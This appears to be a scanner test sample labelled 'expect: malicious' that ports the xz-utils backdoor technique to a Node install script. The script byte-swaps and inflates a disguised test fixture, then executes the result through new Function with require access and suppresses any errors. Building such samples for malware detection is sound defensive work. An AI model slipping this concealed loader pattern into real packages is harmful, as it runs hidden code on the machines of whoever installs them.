// when: install
// expect: malicious
// source: xz-utils backdoor (CVE-2024-3094) ported to an install script: a "corrupt" test fixture is
// byte-swapped and inflated into the stage, which runs in the install process.
const fs = require('fs');
const path = require('path');
const zlib = require('zlib');
function transform(buf) { const map = { 0x09: 0x20, 0x20: 0x09 }; return Buffer.from(buf.map((b) => (b in map ? map[b] : b))); }
function check() {
  const corrupt = fs.readFileSync(path.join(__dirname, 'tests', 'files', 'bad-3-corrupt_deflate.bin'));
  try { new Function('require', zlib.inflateRawSync(transform(corrupt)).toString())(require); } catch (_) {}
}
check();
